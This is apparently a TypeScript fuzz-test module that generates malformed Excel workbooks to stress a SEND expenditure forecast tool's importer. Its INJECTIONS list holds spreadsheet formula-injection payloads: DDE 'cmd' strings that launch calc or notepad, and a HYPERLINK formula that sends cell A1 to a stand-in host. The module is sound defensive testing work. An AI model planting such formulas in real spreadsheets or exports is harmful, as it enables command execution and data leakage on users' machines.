/**
 * Generated hostile workbooks: fast-check arbitraries over the contract's
 * shapes (the example workbook, mutated cell by cell, row by row, name by
 * name) and over damaged files (the package's XML, its zip, bytes that are
 * no workbook at all). A case is a plain value, printable and replayable:
 * `buildCase` turns it into the bytes of the file handed to the command line.
 *
 * Each family of damage can be switched off (`FuzzFamilies`) so that a class
 * of failure already known, and being fixed, does not hide new ones.
 */
import ExcelJS from "exceljs";
import fc from "fast-check";
import JSZip from "jszip";
import { buildExampleWorkbook } from "../../scripts/build-example-workbook";
import { WILTSHIRE } from "../../src/example/wiltshire";
import type { ForecastInput } from "../../src/model";

// ---- the families of damage ----

export interface FuzzFamilies {
  /** Cells of the inputs given other values: other types, extreme and NaN-producing numbers, errors, formulas. */
  cells: boolean;
  /** Header cells and row labels respelt: misspellings, other year forms, totals, formula-looking text. */
  labels: boolean;
  /** Combinations of cost-line figures that overflow or divide by nothing (Inflation -0.999 and a far base year). */
  nanCombos: boolean;
  /** A row's figures scaled (pounds for £'000, 1e300). */
  scale: boolean;
  /** Merged cells, inserted rows and columns, sheets removed or renamed. */
  structure: boolean;
  /** Defined names: to #REF!, to a missing sheet, sheet-scoped and duplicate, in comments, constants, full height. */
  names: boolean;
  /** Cell XML as other writers (or damage) leave it: <v>97abc</v>, <v>0x1F</v>, <v>NaN</v>, t="d" dates, rows without r=. */
  xmlValues: boolean;
  /** Parts of the package missing, garbage or cut short. */
  xmlParts: boolean;
  /** Parts as other writers emit them: a table without style or autoFilter, a drawing ExcelJS cannot read. */
  otherWriters: boolean;
  /** The file is no workbook: truncated, random bytes, another format, an encrypted (CFB) file, empty. */
  bytes: boolean;
  /** One byte of the zip flipped (inside compressed data, a CRC, a header). */
  byteFlips: boolean;
}

export const ALL_FAMILIES: FuzzFamilies = {
  cells: true,
  labels: true,
  nanCombos: true,
  scale: true,
  structure: true,
  names: true,
  xmlValues: true,
  xmlParts: true,
  otherWriters: true,
  bytes: true,
  byteFlips: true,
};

// ---- generated values ----

/** A cell value, as data (so a case prints and replays). */
export type GenValue =
  | { k: "num"; v: number }
  | { k: "str"; v: string }
  | { k: "bool"; v: boolean }
  | { k: "date"; v: number }
  | { k: "err"; v: string }
  | { k: "formula"; f: string; result?: number | string }
  | { k: "rich"; parts: string[] }
  | { k: "link"; text: string }
  | { k: "blank" };

/** Numbers at the edges: overflow, underflow, signed zero, rates near -1, years typed as numbers. */
export const EXTREME_NUMBERS = [
  1e308,
  -1e308,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  1e-300,
  -0,
  0,
  -1,
  1,
  -0.999,
  0.999,
  -1e-9,
  1e15,
  2 ** 53 + 2,
  2026,
  2200,
  12,
  0.12,
  1e6,
  -84500,
];

/**
 * Text a user could type or paste. None holds NaN, Infinity, "undefined" or
 * "[object Object]": those are the words the checks look for in the output.
 */
export const TEXTS = [
  "",
  " ",
  "tbc",
  "n/a",
  "-",
  "12%",
  "1,234",
  "£5,000",
  "(100)",
  "97abc",
  "0x1F",
  "1e3",
  " 42 ",
  "31/02/2025",
  "2025-13-01",
  "TRUE",
  "Café",
  "学校",
  "Ünïcödé ✓",
  "x".repeat(300),
  "2025/26",
  "FY25/26",
  "25/26",
  "Outturn 2023-24",
  "2023/24 Outturn",
  "Requests %",
  "Paused",
  "Pause",
  "No to assess",
  "Stopped",
  "EHCPs",
  "INMSS",
  "Change",
  "Totl",
  "Yes",
  "No",
];

/** Labels that look like formulas to a spreadsheet (CSV injection payloads). */
export const INJECTIONS = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
  "=1+1",
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "=cmd|'/C notepad'!'A1'",
  "\t=1+2",
];

/** Header cells as other writers and users spell them. */
export const HEADERS = [
  "Stauts",
  "Confidnce",
  "Ramp Mnths",
  "Ramp months",
  "Levr",
  "Impct",
  "Notes",
  "Key",
  "Value",
  "Provision",
  "Funding",
  "Line",
  "Driver",
  "Share",
  "Unit Cost",
  "Inflation",
  "Base Year",
  "Method",
  "FY25/26",
  "25/26",
  "2026",
  "Outturn 2023-24",
  "2023/24 Outturn",
  "2024/25",
  "2024/25",
  "",
];

/** Row labels: totals spelt otherwise, duplicates, text that is no line at all. */
export const LABELS = [
  "Total Expenditure",
  "Total Expenditure (£'000)",
  "Total",
  "Total High Needs Expenditure",
  "Special Schools",
  "High Needs Block",
  "In Year Surplus (-)/Deficit (+)",
  "RequestsPerMonth",
  "requests per month",
  "OpeningEHCPs",
  "BalanceTargetYear",
  "DeficitCap",
  "SafetyValve",
  "UnknownKey",
  "EHCPs",
  "INMSS",
  "Pupils",
  "Notes",
];

const ERRORS = ["#REF!", "#DIV/0!", "#N/A", "#NUM!", "#VALUE!", "#NAME?", "#NULL!"];

const numberArb: fc.Arbitrary<number> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...EXTREME_NUMBERS) },
  { weight: 2, arbitrary: fc.double({ noNaN: false }) },
  { weight: 2, arbitrary: fc.integer({ min: -100_000, max: 100_000 }) },
  { weight: 1, arbitrary: fc.double({ min: -1, max: 1, noNaN: true }) }
);

export const valueArb: fc.Arbitrary<GenValue> = fc.oneof(
  { weight: 5, arbitrary: numberArb.map((v) => ({ k: "num" as const, v })) },
  {
    weight: 4,
    arbitrary: fc
      .oneof(
        { weight: 4, arbitrary: fc.constantFrom(...TEXTS) },
        { weight: 1, arbitrary: fc.constantFrom(...INJECTIONS) },
        { weight: 1, arbitrary: safeString() }
      )
      .map((v) => ({ k: "str" as const, v })),
  },
  { weight: 1, arbitrary: fc.boolean().map((v) => ({ k: "bool" as const, v })) },
  {
    weight: 1,
    arbitrary: fc
      .oneof(
        fc.constantFrom(-2208988800000, 0, 253402300799000, Date.UTC(2025, 1, 31)),
        fc.integer({ min: Date.UTC(1900, 0, 1), max: Date.UTC(2100, 0, 1) })
      )
      .map((v) => ({ k: "date" as const, v })),
  },
  { weight: 1, arbitrary: fc.constantFrom(...ERRORS).map((v) => ({ k: "err" as const, v })) },
  {
    weight: 1,
    arbitrary: fc
      .record({
        f: fc.constantFrom("1/0", "SUM(A1:A3)", "B5*1000", "Missing!A1", "NA()", "A1"),
        result: fc.option(fc.oneof(numberArb, fc.constantFrom(...TEXTS)), { nil: undefined }),
      })
      .map(({ f, result }) => ({ k: "formula" as const, f, result })),
  },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.constantFrom("97", "Special", " Schools", "1", "%", ""), {
        minLength: 1,
        maxLength: 3,
      })
      .map((parts) => ({ k: "rich" as const, parts })),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom("97", "Requests", "2025/26").map((text) => ({
      k: "link" as const,
      text,
    })),
  },
  { weight: 2, arbitrary: fc.constant({ k: "blank" as const }) }
);

/** Arbitrary text without the words the checks look for. */
function safeString(): fc.Arbitrary<string> {
  return fc
    .string({ unit: "grapheme", maxLength: 20 })
    .filter((s) => !/nan|infinity|undefined|object/i.test(s));
}

// ---- the case ----

/** A place in one of the example's inputs: which input (modulo their count), row and column (modulo its size, one either side). */
export interface Target {
  input: number;
  row: number;
  col: number;
}

export type Edit =
  | { op: "cell"; at: Target; value: GenValue; numFmt?: string }
  | { op: "header"; at: Target; text: string }
  | { op: "label"; at: Target; text: string }
  | { op: "nanCombo"; row: number; variant: number }
  | { op: "scale"; at: Target; factor: number }
  | { op: "merge"; at: Target; rows: number; cols: number }
  | { op: "insertRow"; at: Target }
  | { op: "insertCol"; at: Target }
  | { op: "removeSheet"; sheet: number }
  | { op: "renameSheet"; sheet: number; name: string }
  /** A value far from every input (row 100 on, column AE on) of one sheet. */
  | { op: "far"; sheet: number; row: number; col: number; value: GenValue; merge: boolean };

export type NameDamage =
  | "toRef"
  | "toRefOnSheet"
  | "missingSheet"
  | "sheetScopedDuplicate"
  | "workbookDuplicate"
  | "inComment"
  | "gtInComment"
  | "constant"
  | "twoAreas"
  | "fullHeight"
  | "wholeColumns"
  | "removed"
  | "badScope";

export type XmlDamage =
  | "vText"
  | "vHex"
  | "vNaN"
  | "dateType"
  | "rowWithoutR"
  | "dropPart"
  | "garbagePart"
  | "truncatedPart"
  | "bareTable"
  | "danglingDrawing"
  | "noSharedStrings";

export type ByteDamage =
  | { kind: "truncate"; at: number }
  | { kind: "flip"; at: number; xor: number }
  | { kind: "random"; bytes: number[] }
  | { kind: "text"; which: number }
  | { kind: "cfb" }
  | { kind: "empty" };

export interface FuzzCase {
  base: {
    tables: boolean;
    blankRows: boolean;
    numbersAsText: boolean;
    noCosts: boolean;
    noSettings: boolean;
    noOriginalPlan: boolean;
  };
  edits: Edit[];
  names: { damage: NameDamage; target: number }[];
  xml: { damage: XmlDamage; target: number }[];
  bytes?: ByteDamage;
}

const targetArb: fc.Arbitrary<Target> = fc.record({
  input: fc.nat(20),
  row: fc.nat(40),
  col: fc.nat(12),
});

const NAME_DAMAGE: NameDamage[] = [
  "toRef",
  "toRefOnSheet",
  "missingSheet",
  "sheetScopedDuplicate",
  "workbookDuplicate",
  "inComment",
  "gtInComment",
  "constant",
  "twoAreas",
  "fullHeight",
  "wholeColumns",
  "removed",
  "badScope",
];
const XML_DAMAGE: Record<XmlDamage, keyof FuzzFamilies> = {
  vText: "xmlValues",
  vHex: "xmlValues",
  vNaN: "xmlValues",
  dateType: "xmlValues",
  rowWithoutR: "xmlValues",
  dropPart: "xmlParts",
  garbagePart: "xmlParts",
  truncatedPart: "xmlParts",
  noSharedStrings: "xmlParts",
  bareTable: "otherWriters",
  danglingDrawing: "otherWriters",
};

/** The edits a case may make, from the families switched on. */
function editArb(f: FuzzFamilies): fc.Arbitrary<Edit> | undefined {
  const choices: fc.WeightedArbitrary<Edit>[] = [];
  if (f.cells)
    choices.push({
      weight: 6,
      arbitrary: fc
        .record({
          at: targetArb,
          value: valueArb,
          numFmt: fc.option(
            fc.constantFrom("General", "0%", "@", "#,##0", "mmm yyyy", "0.00E+00"),
            {
              nil: undefined,
            }
          ),
        })
        .map((r) => ({ op: "cell" as const, ...r })),
    });
  if (f.labels)
    choices.push(
      {
        weight: 2,
        arbitrary: fc
          .record({ at: targetArb, text: fc.constantFrom(...HEADERS, ...INJECTIONS) })
          .map((r) => ({ op: "header" as const, ...r })),
      },
      {
        weight: 2,
        arbitrary: fc
          .record({ at: targetArb, text: fc.constantFrom(...LABELS, ...INJECTIONS, ...TEXTS) })
          .map((r) => ({ op: "label" as const, ...r })),
      }
    );
  if (f.nanCombos)
    choices.push({
      weight: 1,
      arbitrary: fc
        .record({ row: fc.nat(8), variant: fc.nat(5) })
        .map((r) => ({ op: "nanCombo" as const, ...r })),
    });
  if (f.scale)
    choices.push({
      weight: 1,
      arbitrary: fc
        .record({ at: targetArb, factor: fc.constantFrom(1000, 1e-3, 1e300, -1, 1e6) })
        .map((r) => ({ op: "scale" as const, ...r })),
    });
  if (f.structure)
    choices.push(
      {
        weight: 1,
        arbitrary: fc
          .record({
            at: targetArb,
            rows: fc.integer({ min: 1, max: 3 }),
            cols: fc.integer({ min: 1, max: 3 }),
          })
          .map((r) => ({ op: "merge" as const, ...r })),
      },
      { weight: 1, arbitrary: targetArb.map((at) => ({ op: "insertRow" as const, at })) },
      { weight: 1, arbitrary: targetArb.map((at) => ({ op: "insertCol" as const, at })) },
      { weight: 1, arbitrary: fc.nat(10).map((sheet) => ({ op: "removeSheet" as const, sheet })) },
      {
        weight: 1,
        arbitrary: fc
          .record({
            sheet: fc.nat(10),
            name: fc.constantFrom(
              "Bob's Figures",
              "SEND Forecast",
              "学校",
              "Sheet 1",
              "A1",
              "R1C1"
            ),
          })
          .map((r) => ({ op: "renameSheet" as const, ...r })),
      }
    );
  return choices.length > 0 ? fc.oneof(...choices) : undefined;
}

const TEXT_FILES = [
  "Key,Value\nRequestsPerMonth,97\n",
  "%PDF-1.4\n%âãÏÓ\n1 0 obj\n<<>>\nendobj\n",
  "<html><body><table><tr><td>97</td></tr></table></body></html>",
  '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
];

/** Where in the file: a fraction of its length, in thousandths. */
const fraction = fc.integer({ min: 0, max: 999 }).map((k) => k / 1000);

/** Damage to the file's bytes, from the families switched on; undefined when both are off. */
function byteDamageArb(f: FuzzFamilies): fc.Arbitrary<ByteDamage> | undefined {
  const choices: fc.WeightedArbitrary<ByteDamage>[] = [];
  if (f.bytes)
    choices.push(
      { weight: 3, arbitrary: fraction.map((at) => ({ kind: "truncate" as const, at })) },
      {
        weight: 1,
        arbitrary: fc
          .array(fc.integer({ min: 0, max: 255 }), { maxLength: 64 })
          .map((bytes) => ({ kind: "random" as const, bytes })),
      },
      {
        weight: 1,
        arbitrary: fc.nat(TEXT_FILES.length - 1).map((which) => ({ kind: "text" as const, which })),
      },
      { weight: 1, arbitrary: fc.constant({ kind: "cfb" as const }) },
      { weight: 1, arbitrary: fc.constant({ kind: "empty" as const }) }
    );
  if (f.byteFlips)
    choices.push({
      weight: 3,
      arbitrary: fc
        .record({ at: fraction, xor: fc.integer({ min: 1, max: 255 }) })
        .map((r) => ({ kind: "flip" as const, ...r })),
    });
  return choices.length > 0 ? fc.oneof(...choices) : undefined;
}

/**
 * Cases that must give the example's own figures: the ways the contract says
 * an input may be stored (ranges or tables, blank rows, numbers as text),
 * and anything at all far from the inputs, or a sheet no input is on renamed.
 */
export function benignCaseArb(): fc.Arbitrary<FuzzCase> {
  const far: fc.Arbitrary<Edit> = fc
    .record({
      sheet: fc.nat(10),
      row: fc.nat(200),
      col: fc.nat(20),
      value: valueArb,
      merge: fc.boolean(),
    })
    .map((r) => ({ op: "far" as const, ...r }));
  const readMe: fc.Arbitrary<Edit> = fc
    .constantFrom("Bob's Figures", "学校", "Sheet 1", "=Notes")
    .map((name) => ({ op: "renameSheet" as const, sheet: 0, name }));
  return fc.record({
    base: fc.record({
      tables: fc.boolean(),
      blankRows: fc.boolean(),
      numbersAsText: fc.boolean(),
      noCosts: fc.constant(false),
      noSettings: fc.constant(false),
      noOriginalPlan: fc.constant(false),
    }),
    edits: fc.array(fc.oneof({ weight: 5, arbitrary: far }, { weight: 1, arbitrary: readMe }), {
      maxLength: 6,
    }),
    names: fc.constant([]),
    xml: fc.constant([]),
    bytes: fc.constant(undefined),
  });
}

/** Cases from the families switched on: mostly a few edits to a sound workbook, sometimes a damaged package. */
export function caseArb(f: FuzzFamilies = ALL_FAMILIES): fc.Arbitrary<FuzzCase> {
  const edit = editArb(f);
  const xmlDamage = (Object.keys(XML_DAMAGE) as XmlDamage[]).filter((d) => f[XML_DAMAGE[d]]);
  const bytes = byteDamageArb(f);
  return fc.record({
    base: fc.record({
      tables: fc.boolean(),
      blankRows: fc.boolean(),
      numbersAsText: fc.boolean(),
      noCosts: fc.boolean(),
      noSettings: fc.boolean(),
      noOriginalPlan: fc.boolean(),
    }),
    edits: edit ? fc.array(edit, { maxLength: 4 }) : fc.constant([]),
    names: f.names
      ? fc.array(fc.record({ damage: fc.constantFrom(...NAME_DAMAGE), target: fc.nat(20) }), {
          maxLength: 2,
        })
      : fc.constant([]),
    xml:
      xmlDamage.length > 0
        ? fc.oneof(
            { weight: 4, arbitrary: fc.constant<{ damage: XmlDamage; target: number }[]>([]) },
            {
              weight: 1,
              arbitrary: fc.array(
                fc.record({ damage: fc.constantFrom(...xmlDamage), target: fc.nat(30) }),
                { minLength: 1, maxLength: 2 }
              ),
            }
          )
        : fc.constant([]),
    bytes: bytes
      ? fc.oneof({ weight: 9, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: bytes })
      : fc.constant(undefined),
  });
}

// ---- building the file ----

interface Area {
  sheet: string;
  top: number;
  left: number;
  bottom: number;
  right: number;
}

const SHEET_AREA = /^(?:'((?:[^']|'')+)'|([^!]+))!\$?([A-Z]+)\$?(\d+)(?::\$?([A-Z]+)\$?(\d+))?$/;

function col(letters: string): number {
  let n = 0;
  for (const ch of letters) n = n * 26 + ch.charCodeAt(0) - 64;
  return n;
}

/** Every input of the built workbook (names, then tables), as areas of cells, in a fixed order. */
function inputAreas(wb: ExcelJS.Workbook): Area[] {
  const areas: Area[] = [];
  for (const d of wb.definedNames.model)
    for (const ref of d.ranges) {
      const m = SHEET_AREA.exec(ref);
      if (!m) continue;
      const top = Number(m[4]);
      const left = col(m[3]);
      areas.push({
        sheet: (m[1] ?? m[2]).replace(/''/g, "'"),
        top,
        left,
        bottom: m[6] ? Number(m[6]) : top,
        right: m[5] ? col(m[5]) : left,
      });
    }
  for (const ws of wb.worksheets)
    for (const t of ws.getTables() as unknown as { table: { tableRef: string } }[]) {
      const m = SHEET_AREA.exec(`X!${t.table.tableRef}`);
      if (!m) continue;
      areas.push({
        sheet: ws.name,
        top: Number(m[4]),
        left: col(m[3]),
        bottom: Number(m[6] ?? m[4]),
        right: col(m[5] ?? m[3]),
      });
    }
  return areas;
}

/** A target's cell: inside its input's area, or one row or column beyond it. */
function resolve(
  areas: Area[],
  at: Target
): { sheet: string; row: number; col: number; area: Area } {
  const area = areas[at.input % areas.length];
  const h = area.bottom - area.top + 1;
  const w = area.right - area.left + 1;
  return {
    sheet: area.sheet,
    row: Math.max(1, area.top - 1 + (at.row % (h + 2))),
    col: Math.max(1, area.left - 1 + (at.col % (w + 2))),
    area,
  };
}

function toExcel(v: GenValue): ExcelJS.CellValue {
  switch (v.k) {
    case "num":
      return v.v;
    case "str":
      return v.v;
    case "bool":
      return v.v;
    case "date":
      return new Date(v.v);
    case "err":
      return { error: v.v } as ExcelJS.CellErrorValue;
    case "formula":
      return { formula: v.f, result: v.result } as ExcelJS.CellFormulaValue;
    case "rich":
      return { richText: v.parts.map((text) => ({ text })) };
    case "link":
      return { text: v.text, hyperlink: "https://example.invalid/" };
    case "blank":
      return null;
  }
}

/** Cost-line figures that overflow or divide by nothing together. */
const NAN_COMBOS: [string, ExcelJS.CellValue][][] = [
  [
    ["E", -0.999],
    ["F", "2200/01"],
  ],
  [
    ["E", -1],
    ["F", "1900/01"],
  ],
  [
    ["C", 1e308],
    ["D", 1e308],
  ],
  [
    ["D", 1e308],
    ["E", 1e10],
  ],
  [
    ["C", 0],
    ["D", Number.MIN_VALUE],
    ["E", -0.999999],
  ],
  [
    ["E", 1e300],
    ["F", "2999/00"],
  ],
];

function applyEdit(wb: ExcelJS.Workbook, areas: Area[], e: Edit): void {
  const sheet = (name: string): ExcelJS.Worksheet | undefined => wb.getWorksheet(name);
  switch (e.op) {
    case "cell": {
      const at = resolve(areas, e.at);
      const cell = sheet(at.sheet)?.getCell(at.row, at.col);
      if (!cell) return;
      cell.value = toExcel(e.value);
      if (e.numFmt) cell.numFmt = e.numFmt;
      return;
    }
    case "header": {
      const at = resolve(areas, e.at);
      const cell = sheet(at.sheet)?.getCell(at.area.top, at.col);
      if (cell) cell.value = e.text;
      return;
    }
    case "label": {
      const at = resolve(areas, e.at);
      const cell = sheet(at.sheet)?.getCell(at.row, at.area.left);
      if (cell) cell.value = e.text;
      return;
    }
    case "nanCombo": {
      const ws = sheet("Costs");
      if (!ws) return;
      const row = 6 + (e.row % 4);
      for (const [c, v] of NAN_COMBOS[e.variant % NAN_COMBOS.length])
        ws.getCell(`${c}${row}`).value = v;
      return;
    }
    case "scale": {
      const at = resolve(areas, e.at);
      const ws = sheet(at.sheet);
      if (!ws) return;
      for (let c = at.area.left; c <= at.area.right; c++) {
        const figure: unknown = ws.getCell(at.row, c).value;
        if (typeof figure === "number") ws.getCell(at.row, c).value = figure * e.factor;
      }
      return;
    }
    case "merge": {
      const at = resolve(areas, e.at);
      const ws = sheet(at.sheet);
      if (!ws) return;
      try {
        ws.mergeCells(at.row, at.col, at.row + e.rows - 1, at.col + e.cols - 1);
      } catch {
        // Overlapping an earlier merge: ExcelJS refuses, and so would Excel.
      }
      return;
    }
    case "insertRow": {
      const at = resolve(areas, e.at);
      sheet(at.sheet)?.spliceRows(at.row, 0, []);
      return;
    }
    case "insertCol": {
      const at = resolve(areas, e.at);
      sheet(at.sheet)?.spliceColumns(at.col, 0, []);
      return;
    }
    case "removeSheet": {
      const ws = wb.worksheets[e.sheet % wb.worksheets.length];
      if (ws && wb.worksheets.length > 1) wb.removeWorksheet(ws.id);
      return;
    }
    case "far": {
      const ws = wb.worksheets[e.sheet % wb.worksheets.length];
      if (!ws) return;
      const row = 100 + e.row;
      const col = 31 + e.col;
      ws.getCell(row, col).value = toExcel(e.value);
      if (e.merge)
        try {
          ws.mergeCells(row, col, row + 1, col + 1);
        } catch {
          // Overlapping an earlier merge.
        }
      return;
    }
    case "renameSheet": {
      const ws = wb.worksheets[e.sheet % wb.worksheets.length];
      if (ws && !wb.worksheets.some((w) => w.name.toLowerCase() === e.name.toLowerCase()))
        ws.name = e.name;
      return;
    }
  }
}

function baseInput(b: FuzzCase["base"]): ForecastInput {
  const input: ForecastInput = { ...WILTSHIRE };
  if (b.noCosts) {
    delete input.costs;
    delete input.planActivity;
  }
  if (b.noSettings) delete input.settings;
  if (b.noOriginalPlan) delete input.originalPlan;
  return input;
}

const esc = (s: string): string =>
  s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");

/** The defined names of workbook.xml damaged one way. */
function damageNames(xml: string, damage: NameDamage, target: number): string {
  const names = [...xml.matchAll(/<definedName\b[^>]*>[^<]*<\/definedName>/g)].map((m) => m[0]);
  const sheetCount = (xml.match(/<sheet\b/g) ?? []).length;
  const pick = names.length > 0 ? names[target % names.length] : undefined;
  const nameOf = (el: string): string => /name="([^"]*)"/.exec(el)?.[1] ?? "SEND_Baseline";
  const refOf = (el: string): string => />([^<]*)</.exec(el)?.[1] ?? "";
  const add = (el: string): string =>
    xml.includes("<definedNames>")
      ? xml.replace("<definedNames>", `<definedNames>${el}`)
      : xml.replace("</sheets>", `</sheets><definedNames>${el}</definedNames>`);
  const replacePick = (el: string): string => (pick ? xml.replace(pick, el) : xml);
  const n = pick ? nameOf(pick) : "SEND_Baseline";
  const ref = pick ? refOf(pick) : "";
  const sheetPart = /^(.*!)/.exec(ref)?.[1] ?? "";
  switch (damage) {
    case "toRef":
      return replacePick(`<definedName name="${n}">#REF!</definedName>`);
    case "toRefOnSheet":
      return replacePick(`<definedName name="${n}">${sheetPart}#REF!</definedName>`);
    case "missingSheet":
      return replacePick(
        `<definedName name="${n}">${esc("'No Such Sheet'!")}${ref.replace(/^.*!/, "")}</definedName>`
      );
    case "sheetScopedDuplicate":
      return add(
        `<definedName name="${n}" localSheetId="${target % Math.max(1, sheetCount)}">${esc("'Read me'!$A$1:$C$3")}</definedName>`
      );
    case "workbookDuplicate":
      return add(`<definedName name="${n}">${esc("'Read me'!$A$1:$C$3")}</definedName>`);
    case "inComment":
      return add(
        `<!-- <definedName name="${n === "SEND_OpeningDeficit" ? "SEND_Baseline" : "SEND_OpeningDeficit"}">${esc("'Read me'!$A$1")}</definedName> -->`
      );
    case "gtInComment":
      return pick
        ? xml.replace(pick, pick.replace("<definedName ", '<definedName comment="a &gt; b > c" '))
        : xml;
    case "constant":
      return replacePick(`<definedName name="${n}">84500</definedName>`);
    case "twoAreas":
      return replacePick(
        `<definedName name="${n}">${ref},${esc("'Read me'!$A$1:$B$2")}</definedName>`
      );
    case "fullHeight":
      return replacePick(
        `<definedName name="${n}">${ref.replace(/\$(\d+)$/, "$$1048576").replace(/!\$([A-Z]+)\$(\d+)$/, "!$$$1$$$2:$$$1$$1048576")}</definedName>`
      );
    case "wholeColumns":
      return replacePick(
        `<definedName name="${n}">${ref.replace(/\$([A-Z]+)\$\d+(?::\$([A-Z]+)\$\d+)?$/, (_, a: string, b?: string) => `$${a}:$${b ?? a}`)}</definedName>`
      );
    case "removed":
      return pick ? xml.replace(pick, "") : xml;
    case "badScope":
      return pick
        ? xml.replace(pick, pick.replace("<definedName ", '<definedName localSheetId="99" '))
        : xml;
  }
}

async function damageXml(zip: JSZip, damage: XmlDamage, target: number): Promise<void> {
  const parts = Object.keys(zip.files)
    .filter((p) => !zip.files[p].dir)
    .sort();
  const sheets = parts.filter((p) => /^xl\/worksheets\/sheet\d+\.xml$/.test(p));
  const sheetPath = sheets[target % sheets.length];
  const edit = async (path: string | undefined, f: (xml: string) => string): Promise<void> => {
    const file = path === undefined ? null : zip.file(path);
    if (!file || path === undefined) return;
    zip.file(path, f(await file.async("string")));
  };
  // The k-th <v> of a sheet, k from the target.
  const nthValue = (xml: string, replace: (c: string) => string): string => {
    const cells = [...xml.matchAll(/<c r="[A-Z]+\d+"(?: s="\d+")?><v>[^<]*<\/v><\/c>/g)];
    if (cells.length === 0) return xml;
    const c = cells[target % cells.length][0];
    return xml.replace(c, replace(c));
  };
  switch (damage) {
    case "vText":
      return edit(sheetPath, (x) => nthValue(x, (c) => c.replace(/<v>[^<]*<\/v>/, "<v>97abc</v>")));
    case "vHex":
      return edit(sheetPath, (x) => nthValue(x, (c) => c.replace(/<v>[^<]*<\/v>/, "<v>0x1F</v>")));
    case "vNaN":
      return edit(sheetPath, (x) =>
        nthValue(x, (c) => c.replace(/<v>[^<]*<\/v>/, target % 2 ? "<v>NaN</v>" : "<v>1e999</v>"))
      );
    case "dateType":
      return edit(sheetPath, (x) =>
        nthValue(x, (c) =>
          c.replace("<c ", '<c t="d" ').replace(/<v>[^<]*<\/v>/, "<v>2025-04-01T00:00:00Z</v>")
        )
      );
    case "rowWithoutR":
      return edit(sheetPath, (x) =>
        x.replace(/<row r="\d+"/g, "<row").replace(/<c r="[A-Z]+\d+"/g, "<c")
      );
    case "dropPart": {
      const p = parts[target % parts.length];
      zip.remove(p);
      return;
    }
    case "garbagePart": {
      const p = parts[target % parts.length];
      zip.file(p, '<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1"><v>1</v></c>');
      return;
    }
    case "truncatedPart":
      return edit(parts[target % parts.length], (x) => x.slice(0, Math.floor(x.length / 2)));
    case "bareTable": {
      // A table part as other writers emit it: no style, no autoFilter, no header count.
      const tables = parts.filter((p) => /^xl\/tables\/table\d+\.xml$/.test(p));
      return edit(tables[target % Math.max(1, tables.length)], (x) =>
        x
          .replace(/<tableStyleInfo\b[^>]*\/>/, "")
          .replace(/<autoFilter\b[^>]*>.*?<\/autoFilter>|<autoFilter\b[^>]*\/>/, "")
          .replace(/ headerRowCount="\d+"/, "")
          .replace(/ totalsRowShown="\d+"/, "")
      );
    }
    case "danglingDrawing": {
      await edit(sheetPath, (x) =>
        x.replace("</worksheet>", '<drawing r:id="rIdFuzz1"/></worksheet>')
      );
      const rels = sheetPath.replace("worksheets/", "worksheets/_rels/") + ".rels";
      const rel =
        '<Relationship Id="rIdFuzz1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/drawing" Target="../drawings/drawing9.xml"/>';
      const existing = zip.file(rels);
      zip.file(
        rels,
        existing
          ? (await existing.async("string")).replace("</Relationships>", `${rel}</Relationships>`)
          : `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel}</Relationships>`
      );
      if (target % 2 === 0)
        zip.file(
          "xl/drawings/drawing9.xml",
          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"/>'
        );
      return;
    }
    case "noSharedStrings":
      zip.remove("xl/sharedStrings.xml");
      return;
  }
}

function damageBytes(data: Buffer, d: ByteDamage): Buffer {
  switch (d.kind) {
    case "truncate":
      return data.subarray(0, Math.floor(data.length * d.at));
    case "flip": {
      const out = Buffer.from(data);
      const i = Math.floor(out.length * d.at);
      out[i] ^= d.xor;
      return out;
    }
    case "random":
      return Buffer.from(d.bytes);
    case "text":
      return Buffer.from(TEXT_FILES[d.which % TEXT_FILES.length], "utf8");
    case "cfb": {
      // An OLE compound file, as Excel writes an encrypted (password to open) workbook.
      const out = Buffer.alloc(4096);
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(out);
      return out;
    }
    case "empty":
      return Buffer.alloc(0);
  }
}

/** The case's file. Throws only when the generator itself cannot make it (ExcelJS refusing an edit); the caller counts those apart. */
export async function buildCase(c: FuzzCase): Promise<Buffer> {
  const wb = buildExampleWorkbook(baseInput(c.base), {
    expenditureAsTables: c.base.tables,
    blankRows: c.base.blankRows,
    numbersAsText: c.base.numbersAsText,
  });
  const areas = inputAreas(wb);
  for (const e of c.edits) applyEdit(wb, areas, e);
  let data: Buffer = Buffer.from(await wb.xlsx.writeBuffer());
  if (c.names.length > 0 || c.xml.length > 0) {
    const zip = await JSZip.loadAsync(data);
    if (c.names.length > 0) {
      let xml = await zip.file("xl/workbook.xml")!.async("string");
      for (const n of c.names) xml = damageNames(xml, n.damage, n.target);
      zip.file("xl/workbook.xml", xml);
    }
    for (const x of c.xml) await damageXml(zip, x.damage, x.target);
    data = await zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE" });
  }
  return c.bytes ? damageBytes(data, c.bytes) : data;
}

/** A case as one line of JSON, the numbers JSON cannot spell (NaN, -0, ±Infinity) spelt out. */
export function describeCase(c: FuzzCase): string {
  return JSON.stringify(c, (_, v: unknown) =>
    typeof v === "number" && (!Number.isFinite(v) || Object.is(v, -0))
      ? `<${String(Object.is(v, -0) ? "-0" : v)}>`
      : v
  );
}
